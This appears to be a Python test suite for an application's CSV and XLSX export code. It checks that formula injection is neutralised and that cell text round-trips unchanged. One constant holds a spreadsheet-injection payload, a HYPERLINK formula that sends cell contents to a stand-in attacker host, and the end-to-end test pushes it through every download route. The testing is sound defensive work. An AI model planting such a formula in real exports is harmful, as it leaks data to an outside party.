"""Property: whatever text goes into an export, no cell reaches a spreadsheet as a formula, and the
neutralising quote comes off again on import (restore_cell), so text round-trips unchanged.

Covers csvio.write_csv (every CSV export) and the two XLSX writers (surveys.responses.exports, dashboard.exports).
"""

from __future__ import annotations

import csv
import io
from datetime import date
from types import SimpleNamespace

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from adkar.csvio import FORMULA_PREFIXES, neutralise_cell, restore_cell, write_csv
from adkar.dashboard import exports as dashboard_exports
from adkar.surveys.responses import exports as survey_exports

from . import payload_world
from .support import sign_in

DANGEROUS = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "'=", "''+", " ="])
# Text that often starts like a formula (or like an already-quoted one), and any text at all.
TEXT = st.one_of(st.text(max_size=40), st.builds(lambda a, b: a + b, DANGEROUS, st.text(max_size=20)))
PROPERTY = settings(max_examples=300, deadline=None, derandomize=True, database=None)
XLSX_PROPERTY = settings(
    max_examples=40,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.too_slow],
)


def formula_cells(cells) -> list[str]:
    return [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_PREFIXES)]


@PROPERTY
@given(TEXT)
def test_neutralise_then_restore_round_trips(text):
    assert restore_cell(neutralise_cell(text)) == text
    assert not formula_cells([neutralise_cell(text)])


@PROPERTY
@given(TEXT)
def test_restore_leaves_text_that_was_never_neutralised_alone_when_it_cannot_be_a_formula(text):
    if not text.lstrip("'").startswith(FORMULA_PREFIXES):
        assert restore_cell(text) == text


@PROPERTY
@given(st.lists(TEXT, min_size=1, max_size=4), st.lists(st.lists(TEXT, min_size=4, max_size=4), max_size=4))
def test_csv_cells_never_start_a_formula_and_round_trip(header, rows):
    body = write_csv(header, rows).decode("utf-8")
    assert body.startswith("\ufeff")
    read = list(csv.reader(io.StringIO(body[1:], newline="")))
    assert len(read) == 1 + len(rows)
    for written, original in zip(read, [header, *rows], strict=True):
        assert not formula_cells(written), written
        assert [restore_cell(cell) for cell in written] == original


def xlsx_cells(body: bytes) -> list[tuple[str, object, str]]:
    workbook = load_workbook(io.BytesIO(body))
    return [
        (sheet.title, cell.value, cell.data_type)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


def line_ends(text: str) -> str:
    """XML readers turn CR and CRLF into LF; the cell text is otherwise exactly what was written."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def check_xlsx(body: bytes, texts: list[str]) -> None:
    cells = xlsx_cells(body)
    assert not [c for c in cells if c[2] == "f"], "a cell was stored as a formula"
    assert not formula_cells(value for _, value, _ in cells)
    stored = {line_ends(value) for _, value, _ in cells if isinstance(value, str)}
    for text in texts:
        clean = ILLEGAL_CHARACTERS_RE.sub("", text)
        if clean:
            assert line_ends(neutralise_cell(clean)) in stored, text


@XLSX_PROPERTY
@given(st.lists(TEXT, min_size=1, max_size=5))
def test_readiness_xlsx_never_holds_a_formula(texts):
    rows = [
        [
            1,
            text,
            date(2030, 1, 1),
            2,
            text,
            5,
            10,
            0.5,
            "no",
            *([None] * len(dashboard_exports.SCORE_FIELDS)),
        ]
        for text in texts
    ]
    check_xlsx(dashboard_exports.to_xlsx(rows, texts), texts)


@XLSX_PROPERTY
@given(st.lists(TEXT, min_size=2, max_size=5))
def test_responses_xlsx_never_holds_a_formula(texts):
    wave = SimpleNamespace(name=texts[0], opens_on=date(2030, 1, 1), closes_on=date(2030, 1, 31))
    export = survey_exports.WaveExport(wave=wave, k=5, header=["Group", *texts], total=5)
    export.rows = [[text, date(2030, 1, 31), *texts] for text in texts]
    check_xlsx(survey_exports.to_xlsx(export), texts)


FORMULA_NAME = '=HYPERLINK("http://attacker.example/?leak="&A2,"Open")'


def test_every_export_route_neutralises_formula_names(app):
    """End to end: an initiative, group, wave and comment named like a formula, through each download."""
    world = payload_world.build(app, FORMULA_NAME)
    owner = sign_in(app, world.owner_email)
    csv_urls = [
        f"/initiatives/{world.initiative_id}/readiness.csv",
        f"/waves/{world.wave_id}/responses.csv",
        f"/initiatives/{world.initiative_id}/audit.csv",
    ]
    xlsx_urls = [
        f"/initiatives/{world.initiative_id}/readiness.xlsx",
        f"/waves/{world.wave_id}/responses.xlsx",
    ]
    for url in csv_urls:
        response = owner.get(url)
        assert response.status_code == 200, url
        cells = [c for row in csv.reader(io.StringIO(response.text.lstrip("\ufeff"))) for c in row]
        assert "'" + FORMULA_NAME in cells or any(FORMULA_NAME in c for c in cells), url
        assert not formula_cells(cells), url
    for url in xlsx_urls:
        response = owner.get(url)
        assert response.status_code == 200, url
        check_xlsx(response.data, [FORMULA_NAME])
